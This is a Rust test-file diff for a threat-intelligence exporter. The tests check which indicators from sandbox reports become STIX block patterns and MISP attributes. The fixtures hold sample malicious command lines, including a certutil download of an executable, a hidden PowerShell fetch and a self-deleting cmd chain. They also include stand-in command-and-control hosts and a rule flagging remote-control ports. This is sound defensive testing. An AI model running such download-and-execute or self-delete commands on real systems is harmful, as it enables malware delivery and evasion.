@@ -138,12 +138,11 @@ fn others_are_told_to_block_the_sample_and_what_a_rule_marks_and_nothing_else() 
     let bundle = parsed(&export(&demo("3-lynxbox"), &["--format", "stix"]));
     let found = patterns(&bundle);
     let has = |text: &str| found.iter().find(|(pattern, _)| pattern.contains(text));
-    for text in
-        [sample, "'gate.lumen.example'", "'203.0.113.24'", "'https://gate.lumen.example/v1/hello'", "2001:db8::24"]
-    {
+    for text in [sample, "'gate.lumen.example'", "'203.0.113.24'", "'https://gate.lumen.example/v1/hello'"] {
         assert!(has(text).is_some(), "{text}: {found:?}");
     }
-    for text in ["time.example.com", "192.0.2.123", "'203.0.113.25'", "backup-gate", "cdn.statement"] {
+    // The port of the second is one of remote control tools, and of much else.
+    for text in ["time.example.com", "2001:db8::24", "192.0.2.123", "'203.0.113.25'", "backup-gate", "cdn.statement"] {
         assert!(has(text).is_none(), "{text}: {found:?}");
     }
     let (_, words) = has("'gate.lumen.example'").unwrap();
@@ -342,12 +341,88 @@ fn what_every_network_has_is_not_blocked_and_often_is_no_way_to_hide() {
     for servers in [&plain[..], &dressed] {
         assert_eq!(blocked(rows(servers, url)), 0);
     }
-    // The URL, and its host.
-    assert_eq!(blocked(rows(&["bad.example."], url)), 2);
+    // The URL alone: what else is on its host nobody knows.
+    assert_eq!(blocked(rows(&["bad.example."], url)), 1);
     let named = r#"{"hostname":"bad.example","resolved_ips":["203.0.113.9"]}"#;
     let often = format!(
         r#"{{"dns_lookups":[{}],"ids_alerts":[{{"rule_msg":"x","alert_severity":"high","alert_context":{{"dest_ip":"203.0.113.9","dest_port":443,"hostname":"bad.example"}}}}]}}"#,
         [named; 40].join(",")
     );
     assert_eq!(patterns(&parsed(&export_of(&often, &["--format", "stix"]))).len() - 1, 2);
+}
+
+/// What others are told to block by a report that says this, in STIX; MISP is of one mind with it.
+fn blocked(attributes: &str) -> Vec<String> {
+    let bundle = parsed(&export_of(attributes, &["--format", "stix"]));
+    let found: Vec<_> = patterns(&bundle).into_iter().map(|(pattern, _)| pattern.to_owned()).collect();
+    let event = parsed(&export_of(attributes, &["--format", "misp"]));
+    let marked: Vec<_> = self::attributes(&event).filter(|a| a["to_ids"] == true).collect();
+    assert_eq!(marked.len(), found.len(), "{marked:?} {found:?}");
+    for attribute in marked {
+        let value = format!("'{}'", attribute["value"].as_str().unwrap());
+        assert!(found.iter().any(|pattern| pattern.contains(&value)), "{value}: {found:?}");
+    }
+    found
+}
+
+#[test]
+fn a_mark_on_a_command_line_or_on_a_url_is_none_on_the_machines_that_it_names() {
+    let report = r#"{"command_executions":["cmd.exe /C ping 1.1.1.1 -n 1 -w 3000 > Nul & Del /f /q \"C:\\x.exe\"",
+        "powershell -w hidden https://www.microsoft.com/ \\\\files.example\\a","certutil -urlcache -f https://github.com/x/y/raw/z.exe z.exe"],
+        "processes_created":["cmd /c ping 8.8.8.8 -n 5 & del C:\\x.exe"],
+        "http_conversations":[{"url":"https://raw.githubusercontent.com/a/b"},{"url":"http://203.0.113.8/ngrok.io"}],
+        "dns_lookups":[{"hostname":"a.duckdns.org"}],"files_dropped":[{"path":"C:\\Users\\a\\AppData\\x.exe","sha256":"HASH"}],
+        "ids_alerts":[{"alert_severity":"high","alert_context":{"hostname":"c2.example","dest_ip":"203.0.113.7","dest_port":443}}]}"#;
+    let hash = "cd".repeat(32);
+    let mut found = blocked(&report.replace("HASH", &hash));
+    found.sort();
+    let sample = "ab".repeat(32);
+    let mut wanted = [
+        "domain-name:value = 'a.duckdns.org'",
+        "domain-name:value = 'c2.example'",
+        "ipv4-addr:value = '203.0.113.7'",
+        "url:value = 'http://203.0.113.8/ngrok.io'",
+        "url:value = 'https://github.com/x/y/raw/z.exe'",
+        "url:value = 'https://raw.githubusercontent.com/a/b'",
+        "url:value = 'https://www.microsoft.com/'",
+        &format!("file:hashes.'SHA-256' = '{sample}'"),
+        &format!("file:hashes.'SHA-256' = '{hash}'"),
+    ]
+    .map(|pattern| format!("[{pattern}]"));
+    wanted.sort();
+    assert_eq!(found, wanted);
+}
+
+#[test]
+fn a_port_that_much_else_uses_is_no_reason_to_block() {
+    let report =
+        |port: u16| format!(r#"{{"ip_traffic":[{{"destination_ip":"203.0.113.7","destination_port":{port}}}]}}"#);
+    for (port, severity) in
+        [(4444, "medium"), (1337, "medium"), (31337, "medium"), (8443, "low"), (5555, "low"), (9001, "low"), (443, "")]
+    {
+        let blocks = blocked(&report(port)).iter().any(|pattern| pattern.contains("203.0.113.7"));
+        assert_eq!(blocks, severity == "medium", "{port}");
+        let text = export_of(&report(port), &["--notable", "--format", "txt"]);
+        assert!(
+            text.contains(&format!("({severity}: A port that remote control tools like")) || severity.is_empty(),
+            "{text}"
+        );
+    }
+}
+
+#[test]
+fn a_file_that_was_found_clean_is_not_blocked_itself() {
+    let sample = "ab".repeat(32);
+    let dropped = format!(r#""files_dropped":[{{"path":"C:\\Windows\\System32\\x.exe","sha256":"{sample}"}}]"#);
+    for (verdicts, wanted) in [
+        (r#"["CLEAN"]"#, false),
+        (r#"["harmless","CLEAN"]"#, false),
+        (r#"["CLEAN","MALWARE"]"#, true),
+        (r#"["CLEAN","GREYWARE"]"#, true),
+        (r#"["UNKNOWN_VERDICT"]"#, true),
+        ("[]", true),
+    ] {
+        let found = blocked(&format!(r#"{{"verdicts":{verdicts},{dropped}}}"#));
+        assert_eq!(found.iter().any(|pattern| pattern.contains(&sample)), wanted, "{verdicts}: {found:?}");
+    }
 }
